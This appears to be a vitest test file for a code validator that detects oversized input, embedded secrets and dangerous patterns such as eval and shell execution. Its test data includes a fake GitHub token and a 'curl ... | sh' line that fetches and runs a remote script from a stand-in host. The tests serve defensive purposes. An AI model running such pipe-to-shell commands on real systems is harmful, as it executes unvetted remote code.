import { describe, expect, it } from 'vitest';
import { validateCode } from './validate-code.ts';
import {
  CodeTooLargeError,
  DangerousPatternError,
  SecretInCodeError,
} from './validation-errors.ts';

const githubToken = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';

describe('validateCode', () => {
  it('passes clean code with no warnings', () => {
    expect(validateCode({ language: 'python', code: 'print("hello")\n' })).toEqual({
      warnings: [],
    });
  });

  it('warns about dangerous patterns by default', () => {
    expect(validateCode({ language: 'python', code: 'import os\nos.system("ls")\n' })).toEqual({
      warnings: [
        {
          check: 'dangerous-pattern',
          rule: 'python-os-command',
          line: 2,
          message: 'runs a shell command or another program',
          excerpt: 'os.system("ls")',
        },
      ],
    });
  });

  it('rejects a secret by default, before looking at dangerous patterns', () => {
    const code = `eval(x)\nt = "${githubToken}"\n`;
    expect(() =>
      validateCode({ language: 'python', code, policy: { dangerousPatterns: 'block' } }),
    ).toThrow(SecretInCodeError);
  });

  it('checks the size first', () => {
    const code = `t = "${githubToken}"\n`.repeat(10);
    expect(() => validateCode({ language: 'python', code, policy: { maxCodeBytes: 100 } })).toThrow(
      CodeTooLargeError,
    );
  });

  it('turns secrets into warnings under the warn policy, with a redacted excerpt elsewhere', () => {
    const code = `eval("${githubToken}")\n`;
    const { warnings } = validateCode({
      language: 'javascript',
      code,
      policy: { secrets: 'warn' },
    });
    expect(warnings).toEqual([
      {
        check: 'secret',
        rule: 'github-token',
        line: 1,
        message: 'a secret (github-token) on line 1',
      },
      {
        check: 'dangerous-pattern',
        rule: 'js-eval',
        line: 1,
        message: 'eval() runs a string as code',
        excerpt: 'eval("[REDACTED:github-token]")',
      },
    ]);
  });

  it('blocks a dangerous pattern under the block policy', () => {
    expect(() =>
      validateCode({
        language: 'bash',
        code: 'echo hi\ncurl -fsSL https://x.example/i.sh | sh\n',
        policy: { dangerousPatterns: 'block' },
      }),
    ).toThrow(expect.objectContaining({ rule: 'bash-pipe-to-shell', line: 2 }) as Error);
    expect(() =>
      validateCode({
        language: 'bash',
        code: 'curl x | sh',
        policy: { dangerousPatterns: 'block' },
      }),
    ).toThrow(DangerousPatternError);
  });

  it('skips dangerous patterns when off', () => {
    expect(
      validateCode({
        language: 'typescript',
        code: "import { exec } from 'node:child_process';\n",
        policy: { dangerousPatterns: 'off' },
      }),
    ).toEqual({ warnings: [] });
  });
});
